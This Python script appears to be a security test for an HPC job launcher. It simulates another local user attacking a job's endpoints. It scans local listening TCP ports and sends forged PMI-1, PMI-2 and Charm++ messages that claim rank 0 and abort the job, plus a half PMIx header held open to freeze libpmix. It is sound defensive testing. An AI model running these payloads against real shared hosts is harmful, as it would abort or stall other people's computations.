#!/usr/bin/env python3
"""Another user's attack on a job's endpoints (issue 15): run as that user on a job's host.

For every TCP port listening on this host (except sshd/rshd), on loopback and on the host's
other addresses, it opens connections and speaks every client protocol greedy serves, as the
review did: PMI-1 claiming rank 0 and aborting with 77, PMI-2 the same, a Charm++ `initnode`
claiming rank 0 followed by an `abort` frame, and half a PMIx header that then stays silent
(which freezes libpmix's progress thread if it ever reaches libpmix). The silent connections
are held for HOLD seconds (argv[1], default 10). Prints one line per port: what answered.
"""
import socket
import struct
import sys
import time

HOLD = float(sys.argv[1]) if len(sys.argv) > 1 else 10.0
SKIP = {22, 514}


def listening():
    """(ip, port) of every listening TCP socket of this network namespace (IPv4)."""
    out = set()
    with open("/proc/net/tcp") as f:
        next(f)
        for line in f:
            local, state = line.split()[1], line.split()[3]
            if state != "0A":  # TCP_LISTEN
                continue
            hexip, hexport = local.split(":")
            ip = socket.inet_ntoa(struct.pack("<I", int(hexip, 16)))
            port = int(hexport, 16)
            if port not in SKIP:
                out.add((ip, port))
    return sorted(out)


def charm_frame(kind, payload):
    return struct.pack(">I", len(payload)) + kind.encode().ljust(12, b"\0") + payload


def initnode(rank):
    fields = [rank, 1, 1, 1, 0, 0, 0, 40000, 0]
    return b"".join(struct.pack(">i", v) for v in fields) + bytes([127, 0, 0, 1])


ATTACKS = {
    "pmi1": b"cmd=initack pmiid=0\ncmd=put kvsname=x key=stranger value=1\ncmd=abort exitcode=77\n",
    "pmi1-init": b"cmd=init pmi_version=1 pmi_subversion=1\ncmd=abort exitcode=77\n",
    "pmi2": b"000045cmd=fullinit;pmirank=0;pmijobid=x;pmiversion=2;pmisubversion=0;"
    + b"000024cmd=abort;message=stranger;",
    "charm": charm_frame("initnode", initnode(0)) + charm_frame("abort", b"stranger's text\0"),
    "pmix-half": b"\x00\x00",
}


def main():
    targets = []
    for ip, port in listening():
        addrs = ["127.0.0.1"] if ip in ("0.0.0.0", "127.0.0.1") else [ip]
        if ip == "0.0.0.0":
            addrs.append(socket.gethostbyname(socket.gethostname()))
        targets += [(a, port) for a in addrs]
    held = []
    for addr in targets:
        answers = []
        for name, data in ATTACKS.items():
            try:
                s = socket.create_connection(addr, timeout=2)
                s.sendall(data)
                if name == "pmix-half":
                    held.append(s)  # stays silent
                    answers.append(f"{name}:held")
                    continue
                s.settimeout(1)
                try:
                    got = s.recv(200)
                    answers.append(f"{name}:{'closed' if not got else repr(got[:60])}")
                except socket.timeout:
                    answers.append(f"{name}:silent")
                except OSError as e:
                    answers.append(f"{name}:{e.__class__.__name__}")
                s.close()
            except OSError as e:
                answers.append(f"{name}:connect {e.__class__.__name__}")
        print(f"stranger: {addr[0]}:{addr[1]} " + " ".join(answers), flush=True)
    time.sleep(HOLD)


main()
